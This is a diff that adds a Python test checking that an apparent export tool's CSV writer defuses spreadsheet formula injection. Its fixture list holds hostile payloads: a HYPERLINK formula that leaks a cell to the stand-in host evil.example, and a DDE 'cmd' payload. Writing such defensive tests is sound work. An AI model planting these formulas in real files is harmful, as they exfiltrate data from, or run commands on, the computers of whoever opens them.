@@ -25,6 +25,23 @@ def render(columns, rows, fmt):
     return format_result(Result("x", columns, rows), fmt)
 
 
+FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A2)", "=cmd|' /C calc'!A0",
+            "\t=1+1", "\r=1+1"]  # fmt: skip
+
+
+def test_csv_makes_text_a_spreadsheet_would_run_inert_and_leaves_numbers_and_tsv_as_they_are():
+    """Round 7's C55: a word, a group or a neighbour from the data that begins with = + - @ (or a
+    tab or CR) is written with a leading ' in CSV; numbers, negative ones too, are not."""
+    rows = [(text, -0.25, [text, "月"], -3) for text in FORMULAS] + [("月", -1e-05, [-0.5, 0.25], 0)]
+    read = list(csv.reader(io.StringIO(render(["group", "z", "neighbours", "n"], rows, "csv"), newline="")))[1:]
+    for text, row in zip(FORMULAS, read):
+        assert row[0] == "'" + text and row[2] == "'" + text + " 月"
+        assert (row[1], row[3]) == ("-0.25", "-3")
+    assert read[-1] == ["月", "-1e-05", "-0.5 0.25", "0"]
+    tsv = render(["group"], [(text,) for text in FORMULAS[:5]], "tsv").split("\n")[1:]
+    assert tsv == FORMULAS[:5]  # (TSV, like JSON, carries the text exactly: for R and pandas)
+
+
 def test_csv_reads_back_to_the_same_numbers_with_empty_cells_for_missing_ones():
     out = render(COLUMNS, ROWS, "csv")
     assert out.startswith("word,score,p,neighbours,flag,note\r\n")
